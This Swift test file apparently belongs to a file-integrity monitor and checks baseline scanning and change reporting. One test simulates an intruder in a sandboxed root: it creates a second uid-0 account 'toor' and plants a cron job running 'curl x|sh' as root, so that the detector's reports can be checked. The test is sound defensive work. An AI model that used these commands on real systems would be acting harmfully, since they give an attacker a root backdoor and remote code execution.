import Foundation
import VigilFIM
import VigilTestSupport
import XCTest
#if canImport(Glibc)
import Glibc
#endif

/// Watch lists resolved on a real directory tree, and the baseline: scanned, persisted, and
/// compared after real tools changed the files "while the daemon was down".
final class BaselineTests: XCTestCase {
    func testProfilesAndGlobsResolveUnderARoot() throws {
        let root = try temporaryDirectory()
        for dir in ["/etc/sudoers.d", "/home/alice/.ssh", "/home/bob/.ssh", "/home/carol"] {
            try FileManager.default.createDirectory(atPath: root + dir, withIntermediateDirectories: true)
        }
        for file in ["/etc/sudoers", "/home/alice/.ssh/authorized_keys", "/home/bob/.ssh/authorized_keys"] {
            XCTAssertTrue(FileManager.default.createFile(atPath: root + file, contents: Data()))
        }
        let spec = WatchSpec(profiles: [.access], paths: ["/etc//sudoers/"], directories: [.init("/etc/sudoers.d", recursive: true)])
        let watches = spec.resolve(root: root)
        XCTAssertEqual(watches.filter { $0.kind == .file }.map(\.path),
                       ["/etc/sudoers", "/root/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys", "/home/bob/.ssh/authorized_keys"],
                       "the path given twice once; a missing file kept (watched by name); the glob's matches, not carol's missing file")
        XCTAssertEqual(watches.filter { $0.kind != .file }, [Watch(path: "/etc/sudoers.d", kind: .directory(recursive: true))],
                       "asked both ways: recursive; /etc/pam.d and /etc/security do not exist under this root")
        XCTAssertEqual(watches.first { $0.path.hasSuffix("authorized_keys") }?.format, .authorizedKeys)
    }

    func testChangesMadeWhileDownAreReportedAtTheNextScan() throws {
        let root = try SemanticDiffTests.Root()
        let etc = root.path + "/etc"
        try FileManager.default.createDirectory(atPath: etc + "/cron.d", withIntermediateDirectories: true)
        try Data("* * * * * root true\n".utf8).write(to: URL(fileURLWithPath: etc + "/cron.d/keep"))
        try Data("* * * * * root false\n".utf8).write(to: URL(fileURLWithPath: etc + "/cron.d/gone"))
        let spec = WatchSpec(profiles: [.users], directories: [.init("/etc/cron.d")])
        let watches = spec.resolve(root: root.path)
        let state = try temporaryDirectory() + "/fim/baseline.json"
        try Baseline.scan(watches, root: root.path).save(to: state)

        // the daemon is down: real tools change the copy of /etc bound over /etc
        try root.sh("useradd -o -u 0 -g 0 -M -d /root -s /bin/sh toor && chmod 600 /etc/cron.d/keep"
                    + " && rm /etc/cron.d/gone && echo '* * * * * root curl x|sh' > /etc/cron.d/new")

        let before = try XCTUnwrap(Baseline.load(from: state))
        let changes = before.changes(to: Baseline.scan(watches, root: root.path))
        let byPath = Dictionary(changes.map { ($0.path, $0) }, uniquingKeysWith: { a, _ in a })
        let expected: Set<String> = ["/etc/passwd", "/etc/shadow", "/etc/cron.d/keep", "/etc/cron.d/gone", "/etc/cron.d/new"]
        let seen = Set(changes.map(\.path))
        XCTAssertTrue(seen.isSuperset(of: expected), "\(changes.map { "\($0.path) \($0.change)" })")
        XCTAssertTrue(seen.subtracting(expected).isSubset(of: ["/etc/group", "/etc/gshadow"]), "\(seen)")
        let passwd = try XCTUnwrap(byPath["/etc/passwd"])
        XCTAssertEqual(passwd.change, .modified)
        XCTAssertEqual(passwd.semantic?.usersAdded, ["toor"])
        XCTAssertTrue(passwd.semantic?.newUIDZero ?? false)
        XCTAssertTrue(passwd.diff.contains("a second uid 0 account: toor"), "\(passwd.diff)")
        XCTAssertNotEqual(passwd.before?.sha256, passwd.after?.sha256)
        let shadow = try XCTUnwrap(byPath["/etc/shadow"])
        XCTAssertEqual(shadow.diff, ["shadow entry added: toor"])
        XCTAssertEqual(byPath["/etc/cron.d/keep"]?.change, .attributes)
        XCTAssertEqual(byPath["/etc/cron.d/keep"]?.diff, ["mode changed from 0644 to 0600"])
        XCTAssertEqual(byPath["/etc/cron.d/gone"]?.change, .removed)
        XCTAssertEqual(byPath["/etc/cron.d/new"]?.change, .created)
        XCTAssertEqual(byPath["/etc/cron.d/new"]?.after?.sha256, SHA256.hex(Array("* * * * * root curl x|sh\n".utf8)))

        // the baseline on disk holds no password hash, and only root may read it
        let text = try String(contentsOfFile: state, encoding: .utf8)
        let shadowText = String(decoding: try root.file("shadow"), as: UTF8.self)
        for line in shadowText.split(separator: "\n") {
            let hash = line.split(separator: ":", omittingEmptySubsequences: false)[1]
            if hash.count > 2 { XCTAssertFalse(text.contains(hash), "a hash of \(line.prefix { $0 != ":" }) is in the baseline") }
        }
        var st = stat()
        XCTAssertEqual(stat(state, &st), 0)
        XCTAssertEqual(st.st_mode & 0o777, 0o600)
    }

    func testNothingChangedIsNoChangeAndARenamedOverSymlinkIsATypeChange() throws {
        let dir = try temporaryDirectory()
        let file = dir + "/sudoers"
        try Data("root ALL=(ALL) ALL\n".utf8).write(to: URL(fileURLWithPath: file))
        let watches = WatchSpec(paths: [file]).resolve()
        let first = Baseline.scan(watches)
        XCTAssertEqual(first.changes(to: Baseline.scan(watches)), [])
        let result = try runCapturing("/bin/ln", ["-sf", "/etc/hostname", file])
        XCTAssertEqual(result.status, 0, result.stderr)
        let changes = first.changes(to: Baseline.scan(watches))
        XCTAssertEqual(changes.map(\.change), [.modified])
        XCTAssertTrue(changes.first?.diff.contains("type changed from file to symlink") ?? false, "\(changes)")
        XCTAssertTrue(changes.first?.diff.contains("symlink now points to /etc/hostname") ?? false, "\(changes)")
        XCTAssertEqual(changes.first?.semantic?.changes, ["sudo rule removed: root ALL=(ALL) ALL"])
    }

    func testARecordsHashIsWhatSha256sumSaysOverSeveralBlocks() throws {
        let file = try temporaryDirectory() + "/big"
        let bytes = (0..<(3 << 16) + 123).map { UInt8(truncatingIfNeeded: $0 &* 131 &+ ($0 >> 9)) }
        try Data(bytes).write(to: URL(fileURLWithPath: file))
        let record = try XCTUnwrap(FileRecord.read(file))
        let result = try runCapturing("/usr/bin/sha256sum", [file])
        XCTAssertEqual(result.status, 0)
        XCTAssertEqual(record.sha256, String(result.stdout.prefix(64)))
        XCTAssertEqual(record.size, UInt64(bytes.count))
        XCTAssertEqual(record.type, "file")
    }

    func testARescanReadsOnlyTheFilesWhoseCtimeChanged() throws {
        let dir = try temporaryDirectory()
        for name in ["kept", "written", "chmodded"] { try Data("x\n".utf8).write(to: URL(fileURLWithPath: "\(dir)/\(name)")) }
        let watches = WatchSpec(directories: [.init(dir)]).resolve()
        var before = Baseline.scan(watches)
        // a hash no file has: kept only where the file was not read again
        for name in ["kept", "written", "chmodded"] { before.files["\(dir)/\(name)"]?.sha256 = "not read again" }
        let result = try runCapturing("/bin/sh", ["-c", "echo y >> \"$1/written\" && chmod 600 \"$1/chmodded\"", "sh", dir])
        XCTAssertEqual(result.status, 0, result.stderr)
        let after = Baseline.scan(watches, reuse: before)
        XCTAssertEqual(after.files["\(dir)/kept"]?.sha256, "not read again")
        XCTAssertEqual(after.files["\(dir)/written"]?.sha256, SHA256.hex(Array("x\ny\n".utf8)))
        XCTAssertEqual(after.files["\(dir)/chmodded"]?.sha256, SHA256.hex(Array("x\n".utf8)), "a chmod changes ctime: read again")
        XCTAssertEqual(Baseline.scan(watches).files["\(dir)/kept"]?.sha256, SHA256.hex(Array("x\n".utf8)), "without reuse: read")
    }

    func testACorruptBaselineIsAnErrorNotAFreshStart() throws {
        let path = try temporaryDirectory() + "/baseline.json"
        XCTAssertNil(try Baseline.load(from: path))
        try Data("{\"version\":1,\"files\":{\"/etc/passwd\":".utf8).write(to: URL(fileURLWithPath: path))
        XCTAssertThrowsError(try Baseline.load(from: path))
    }
}
